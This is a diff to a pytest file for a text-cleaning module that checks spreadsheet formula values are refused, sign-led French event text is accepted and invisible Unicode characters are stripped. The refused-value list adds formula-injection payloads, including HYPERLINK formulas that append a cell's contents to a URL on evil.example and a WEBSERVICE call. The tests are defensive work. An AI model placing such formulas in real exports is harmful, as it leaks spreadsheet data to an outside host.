@@ -64,6 +64,10 @@ def test_clean_text_too_long_is_an_error_naming_the_limit():
     "-A1*2",
     "\u00a0=1+1",  # behind a no-break or ideographic space, which cleaning strips
     "\u3000=1+2",
+    # Signs that hide a call, a cell reference or a joined text further on.
+    '+A1&HYPERLINK("http://evil.example/?"&B2;"clic")', '-(1)+HYPERLINK("http://evil.example")',
+    '+"x"&HYPERLINK("http://evil.example")', '@"x"&HYPERLINK(1)', "+1&HYPERLINK(1)", "-$A$1&WEBSERVICE(1)",
+    "+A1:B2",
 ])
 def test_spreadsheet_formulas_are_refused(value):
     with pytest.raises(FieldError) as caught:
@@ -74,6 +78,7 @@ def test_spreadsheet_formulas_are_refused(value):
 @pytest.mark.parametrize("value", [
     "-", "- 5 €", "+33 1 48 39 52 46", "-12.5", "+3", "@lachorale", "Théâtre = jeu", "", None, 12,
     "=> Sur inscription auprès de la médiathèque", "==> Complet", "=< 12 ans",
+    "-Théâtre & danse", "- ateliers : chant & danse", "- Salle A1 & B2", "+ de 60 ans", "- 10 % sur place",
 ])
 def test_ordinary_values_starting_with_signs_are_fine(value):
     assert reject_formula(value, "name") is None
@@ -97,3 +102,10 @@ def test_markdown_becomes_html_and_html_is_left_for_the_sanitiser():
 def test_entities_written_in_plain_text_are_escaped_once():
     assert sanitise_html("Bal trad &amp; chansons d&#039;hier") == "<p>Bal trad &amp; chansons d'hier</p>"
     assert plain_text(sanitise_html("Théâtre &amp; danse")) == "Théâtre & danse"
+
+
+def test_invisible_characters_are_removed_so_look_alike_values_are_one():
+    """« Z1 », « Z1\u200d », « Z1\u2060 » and « Z1\u00ad » would be four ids, or four names,
+    showing the same."""
+    for hidden in ("\u200b", "\u200c", "\u200d", "\u2060", "\u00ad", "\ufeff"):
+        assert clean_text(f"Z{hidden}1", "external_id") == "Z1"
